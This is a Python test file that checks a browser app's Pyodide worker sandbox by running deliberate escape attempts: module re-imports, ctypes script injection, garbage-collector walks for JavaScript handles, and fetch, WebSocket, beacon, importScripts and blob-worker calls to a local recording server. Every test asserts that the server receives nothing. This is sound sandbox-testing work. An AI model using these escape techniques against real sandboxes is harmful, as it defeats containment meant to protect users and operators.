"""No way out of the worker that runs a reader's program: nothing reaches another origin."""

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from .conftest import PATIENCE, OpenPage
from .test_writing import run

pytestmark = pytest.mark.slow

BACK = """import sys
OTHER = "%s/"
def ways():
    yield "js", "import js"
    yield "again", "sys.modules.pop('js', None); import js"
    names = "pyodide_js pyodide pyodide.http pyodide.ffi _pyodide_core _pyodide"
    for name in names.split():
        yield name, f"sys.modules.pop({name!r}, None); import {name}"
    yield "run_js", "from pyodide.code import run_js; run_js(f\\"import('{OTHER}run_js')\\")"
    yield "reload", "import importlib as i; i.invalidate_caches(); i.import_module('js')"
    yield "finders", "[f for f in sys.meta_path if 'yodide' in str(f)][0].find_spec('js')"
    yield "urllib", "from urllib.request import urlopen; urlopen(OTHER + 'urllib')"
    yield "socket", "import socket; socket.create_connection(('127.0.0.1', %d), 1)"
    yield "snippets", "import _pyodide_core as c; c.js.fetch(OTHER)"
for name, code in ways():
    try:
        exec(code)
        print(name, "is open")
    except BaseException as error:
        print(name, type(error).__name__)
"""
"""What a program can try in Python."""

C = """import ctypes
code = b"fetch('%s/c'); import('%s/c2')"
ctypes.CDLL(None).emscripten_run_script(code)
"""
"""What C can do: run a script, which the policy refuses."""

HELD = """import gc, sys
from itertools import chain, compress, repeat
from operator import attrgetter, methodcaller
OTHER = "%s/"
def use(js, how):
    for name in ("fetch", "importScripts"):
        try: getattr(js, name)(OTHER + how + name)
        except BaseException: pass
    for name in ("WebSocket", "EventSource", "Worker", "SharedWorker", "Request"):
        kind = "ws" if name == "WebSocket" else "http"
        try: getattr(js, name).new(OTHER.replace("http", kind) + name)
        except BaseException: pass
    try: js.navigator.sendBeacon(OTHER + "beacon")
    except BaseException: pass
    try: js.FontFace.new("a", "url(" + OTHER + "font)").load()
    except BaseException: pass
    try: js.eval("import('" + OTHER + how + "')")
    except BaseException: pass
    try:
        asked = js.XMLHttpRequest.new()
        asked.open("GET", OTHER + "xhr", False)
        asked.send()
    except BaseException: pass
found = 0
frame = sys._getframe()
while frame:
    for value in [*frame.f_globals.values(), *frame.f_locals.values()]:
        if "JsProxy" in repr(type(value)) or "js" == getattr(value, "__name__", ""):
            found += 1
            use(value, "frames")
    frame = frame.f_back
objects = gc.get_objects()  # without a line for each, which the search's watcher would look at
dicts = compress(objects, map(isinstance, objects, repeat(dict)))
objects += chain.from_iterable(map(dict.values, dicts))
kinds = map(str, map(attrgetter("__mro__"), map(type, objects)))
for value in [*compress(objects, map(methodcaller("__contains__", "JsProxy"), kinds))]:
    found += 1
    use(value, "gc")
print("held:", found)
"""
"""What it can do with what Python still holds."""

WITH_JAVASCRIPT = """async (other) => {
  const tried = [];
  const attempt = async (name, work) => {
    try {
      await work();
      tried.push(`${name} ran`);
    } catch (error) {
      tried.push(`${name}: ${error.name}`);
    }
  };
  await attempt("import", () => import(`${other}import`));
  await attempt("fetch", () => fetch(`${other}fetch`, { mode: "no-cors" }));
  await attempt("xhr", () => {
    const asked = new XMLHttpRequest();
    asked.open("GET", `${other}xhr`, false);
    asked.send();
  });
  await attempt("socket", () => new Promise((done, fail) => {
    const socket = new WebSocket(other.replace("http", "ws") + "socket");
    socket.onopen = done;
    socket.onerror = () => fail(new Error());
  }));
  await attempt("events", () => new EventSource(`${other}events`));
  await attempt("font", () => new FontFace("a", `url(${other}font)`).load());
  await attempt("beacon", () => navigator.sendBeacon(`${other}beacon`));
  await attempt("nested", () => new Worker(`${other}nested`));
  await attempt("blob", () => new Worker(URL.createObjectURL(new Blob(
    [`fetch("${other}blob", { mode: "no-cors" }); import("${other}blob2")`],
    { type: "text/javascript" })), { type: "module" }));
  await attempt("scripts", () => importScripts(`${other}scripts`));
  await attempt("transport", () => new WebTransport(other.replace("http:", "https:")).ready);
  await new Promise((done) => setTimeout(done, 500));
  return tried;
}"""
"""What a program could do if it had JavaScript, before the worker's functions are gone."""


@pytest.fixture
def other() -> Iterator[tuple[str, list[str]]]:
    """Another origin, and what was asked of it."""
    asked: list[str] = []

    class Recording(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()

        def __getattr__(self, name: str) -> Any:
            if name.startswith("do_"):
                return self.do_GET
            raise AttributeError(name)

        def log_message(self, *_args: object) -> None:
            """Write nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Recording)
    thread = Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    thread.join()
    server.server_close()


def printed(page: Page, program: str) -> str:
    run(page, "Run", text=program)
    expect(page.get_by_role("button", name="Run", exact=True)).to_be_visible()
    return page.locator(".printed").text_content() or ""


def test_nothing_reaches_another_origin(
    open_page: OpenPage, address: str, other: tuple[str, list[str]]
) -> None:
    place, asked = other
    page = open_page("#learn/write", address=address, noisy=True)
    page.locator(".cm-content").wait_for()
    told = printed(page, BACK % (place, int(place.rpartition(":")[2])))
    assert "snippets AttributeError" in told
    # A part of Python itself can be loaded again; there is no JavaScript in it.
    opened = [line for line in told.splitlines() if line.endswith("is open")]
    assert opened in ([], ["_pyodide_core is open"])
    assert "held: " in printed(page, HELD % place)
    printed(page, C % (place, place))
    assert asked == []


def test_a_worker_has_the_policy_of_the_page(
    browser: Browser, address: str, other: tuple[str, list[str]]
) -> None:
    place, asked = other
    page = browser.new_page()  # whose requests may be tried
    page.goto(f"{address}#play/5x5")
    expect(page.locator("html[data-python=ready]")).to_have_count(1, timeout=PATIENCE)
    tried = page.workers[0].evaluate(WITH_JAVASCRIPT, f"{place}/")
    page.close()
    assert asked == [], tried
    assert "import: TypeError" in tried
